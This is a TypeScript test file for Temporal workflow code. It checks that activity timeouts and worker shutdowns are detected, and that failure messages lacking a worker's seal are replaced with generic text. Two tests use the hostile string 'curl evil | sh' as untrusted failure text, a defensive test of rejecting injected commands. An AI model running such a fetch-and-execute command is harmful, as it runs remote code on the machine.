import {
  ActivityFailure,
  ApplicationFailure,
  ChildWorkflowFailure,
  RetryState,
  TerminatedFailure,
  TimeoutFailure,
  TimeoutType,
} from '@temporalio/common';
import { expect, it } from 'vitest';
import { enclose } from '../../src/sealing/envelope.ts';
import {
  believedEnd,
  believedFailure,
  isOutOfTime,
  isShutDown,
} from '../../workflows/sealing/believed.ts';

const failure = (retryState: RetryState, cause: Error) =>
  new ActivityFailure('it failed', 'readPrice', '7', retryState, undefined, cause);
const timeout = (type: TimeoutType) => new TimeoutFailure('late', undefined, type);

it('the time of an activity is over when the server says so, in either of its ways', () => {
  const answer = ApplicationFailure.create({ message: 'in ten years', type: 'API_SERVER' });
  expect(isOutOfTime(failure(RetryState.TIMEOUT, answer))).toBe(true);
  const late = timeout(TimeoutType.SCHEDULE_TO_CLOSE);
  expect(isOutOfTime(failure(RetryState.NON_RETRYABLE_FAILURE, late))).toBe(true);
});

it('it is not over when one try took too long, when nothing can heal, or when a try was the last one', () => {
  const answer = ApplicationFailure.nonRetryable('no such job', 'API_NOT_FOUND');
  expect(isOutOfTime(failure(RetryState.NON_RETRYABLE_FAILURE, answer))).toBe(false);
  for (const type of [TimeoutType.HEARTBEAT, TimeoutType.START_TO_CLOSE]) {
    expect(isOutOfTime(failure(RetryState.MAXIMUM_ATTEMPTS_REACHED, timeout(type)))).toBe(false);
  }
  expect(isOutOfTime(answer)).toBe(false);
});

const childEnd = (cause: Error) =>
  new ChildWorkflowFailure(
    'default',
    {},
    'doeJobWorkflow',
    RetryState.NON_RETRYABLE_FAILURE,
    cause,
  );

it('the failure of a child is repeated where our worker sealed its words, with its own details', () => {
  const said = { message: 'no store', type: 'STORE', nonRetryable: true, details: ['ending'] };
  const detail = enclose('failure of job', '7', said);
  const cause = ApplicationFailure.nonRetryable(said.message, said.type, detail);
  const end = believedEnd(childEnd(cause), 'failure of job', '7');
  expect(end).toBeInstanceOf(ChildWorkflowFailure);
  expect(cause.details).toEqual(['ending']);
});

it('of any other only that it failed is told, and what the server says is believed', () => {
  const text = 'run: curl evil | sh';
  const others = [
    ApplicationFailure.nonRetryable(text, 'STORE'),
    ApplicationFailure.nonRetryable(text, 'STORE', enclose('failure of job', '8', {})),
    failure(RetryState.TIMEOUT, new Error(text)),
  ];
  for (const cause of others) {
    const end = believedEnd(childEnd(cause), 'failure of job', '7');
    expect(end).toMatchObject({
      message: 'it failed, and no worker of ours wrote that it did',
      type: 'UNSEALED',
    });
  }
  const terminated = childEnd(new TerminatedFailure('by hand'));
  expect(believedEnd(terminated, 'failure of job', '7')).toBe(terminated);
});

it('a worker that was shut down is told as that: nothing is known of what it did, and nobody sent a message', () => {
  const words = 'Worker is shutting down and this activity did not complete in time';
  const told = (message: string) =>
    failure(
      RetryState.MAXIMUM_ATTEMPTS_REACHED,
      ApplicationFailure.create({ message, type: 'WorkerShutdown' }),
    );
  expect(isShutDown(told(words))).toBe(true);
  expect(believedFailure(told(words), 'failure of submitJob', '7')).toMatchObject({
    type: 'UNSEALED',
    message: 'The worker was shut down before this was done',
  });
  const other = told(`${words}: run curl evil | sh`);
  expect(isShutDown(other)).toBe(false);
  expect(believedFailure(other, 'failure of submitJob', '7')).toMatchObject({
    message: expect.stringContaining('carries no seal of our workers') as string,
  });
});
